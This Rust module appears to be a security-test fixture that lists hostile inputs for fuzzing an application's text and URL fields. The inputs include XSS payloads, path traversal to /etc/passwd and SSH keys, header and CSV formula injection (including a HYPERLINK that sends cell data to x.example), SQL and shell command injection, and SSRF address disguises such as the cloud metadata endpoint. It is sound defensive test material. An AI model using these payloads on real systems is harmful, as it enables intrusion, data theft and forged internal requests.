//! Owns the texts of people who want a program to do something: one list for each way. Does not send them. Invariant: each is a text that
//! JSON can hold, and none is the name or the id of anything.

/// Those who want a page to run something.
const PAGES: [&str; 22] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</p></li></ol><svg/onload=alert(1)>",
    "\"><iframe src=javascript:alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "'-alert(1)-'",
    "`${alert(1)}`",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!-- a comment that nothing ends",
    "]]><script>alert(1)</script>",
    "</title></style></textarea><script>alert(1)</script>",
    "<style>@import 'http://x.example/'</style>",
    "<math><mtext></p><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script&#x3e;&#0000060",
    "javascript:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}#{7*7}<%= 7*7 %>{{7*7}}{%raw%}",
    "＜script＞alert(1)＜/script＞",
    "\u{0}<\u{0}script>alert(1)",
];

/// Those who want a file that is not theirs.
const PATHS: [&str; 17] = [
    "..",
    "../",
    "../../../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "//host/share/file",
    "\\\\host\\share\\file",
    "C:\\boot.ini",
    "CON.txt:stream",
    "file.txt\u{0}.png",
    "~/.ssh/id_ed25519",
    "./.././db/CURRENT",
];

/// Those who want a line of their own in the head of an answer or an e-mail.
const HEADERS: [&str; 15] = [
    "x\r\nSet-Cookie: everdesk=1",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\nBcc: victim@example.com",
    "x\rBcc: victim@example.com",
    "x\r\n Folded: victim@example.com",
    "x\r\n\tFolded: victim@example.com",
    "x%0d%0aSet-Cookie:%20everdesk=1",
    "x\u{85}Bcc: victim@example.com",
    "x\u{2028}Bcc: victim@example.com\u{2029}",
    "x\u{b}\u{c}Bcc: victim@example.com",
    "=?utf-8?q?x=0D=0ABcc:_victim@example.com?=",
    "=?utf-8?b?eA0KQmNjOiB2aWN0aW1AZXhhbXBsZS5jb20=?=",
    "x\" <victim@example.com>, \"y",
    "x\r\n.\r\nQUIT\r\n",
    "x嘊嘍Set-Cookie: everdesk=1",
];

/// Those who want a table to calculate.
const FORMULAS: [&str; 10] = [
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"http://x.example/?\"&A1)",
    "+1+cmd|'/c calc'!A1",
    "-1+1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\",=1+1,\"",
    "＝1+1",
];

/// Those who want to be taken for something else, or to break who reads them.
const ODD: [&str; 16] = [
    "\",\"role\":\"owner\",\"x\":\"",
    "\\\",\\u0022role\\u0022:1}",
    "{\"$ne\":null}",
    "[]",
    "null",
    "__proto__",
    "constructor.prototype",
    "\u{202e}gpj.exe\u{202c}",
    "\u{2066}\u{2067}isolated\u{2069}",
    "zero\u{200b}width\u{200d}\u{feff}",
    "\u{1}\u{8}\u{1b}[31mred\u{7f}",
    "\u{fffe}\u{ffff}\u{10ffff}",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "' OR '1'='1'; DROP TABLE sites; --",
    "$(touch /tmp/everdesk)`touch /tmp/everdesk`|touch /tmp/everdesk",
    "%n%n%s%x",
];

/// Disguises of addresses that nobody outside may reach. `PORT` is that of somebody who listens on this machine.
const ADDRESSES: [&str; 24] = [
    "http://127.0.0.1:PORT/hook",
    "http://127.1:PORT/hook",
    "http://0:PORT/hook",
    "http://2130706433:PORT/hook",
    "http://0x7f000001:PORT/hook",
    "http://0x7f.0.0.1:PORT/hook",
    "http://0177.0.0.01:PORT/hook",
    "http://①②⑦.⓪.⓪.①:PORT/hook",
    "http://127。0。0。1:PORT/hook",
    "http://%31%32%37.0.0.1:PORT/hook",
    "http://[::1]:PORT/hook",
    "http://[::]:PORT/hook",
    "http://[::ffff:127.0.0.1]:PORT/hook",
    "http://[::ffff:7f00:1]:PORT/hook",
    "http://[64:ff9b::127.0.0.1]:PORT/hook",
    "http://localhost:PORT/hook",
    "http://LOCALHOST.:PORT/hook",
    "http://example.com@127.0.0.1:PORT/hook",
    "http://127.0.0.1:PORT\\@example.com/hook",
    "http:\\\\127.0.0.1:PORT\\hook",
    "ht\ntp://127.0.0.1:PORT/hook",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:PORT/_QUIT",
    "file:///etc/passwd",
];

/// What any field of text is given.
pub fn texts() -> Vec<String> {
    let lists = [&PAGES[..], &PATHS, &HEADERS, &FORMULAS, &ODD];
    let mut all: Vec<String> = lists.into_iter().flatten().map(|&text| text.to_owned()).collect();
    // Longer than a path may be, and longer than most limits; then longer than all of them but the body's.
    all.push("../".repeat(1_500));
    all.push("<b>".repeat(8_000));
    all
}

/// What a field with an address is given besides.
pub fn addresses(port: u16) -> Vec<String> {
    ADDRESSES.iter().map(|address| address.replace("PORT", &port.to_string())).collect()
}
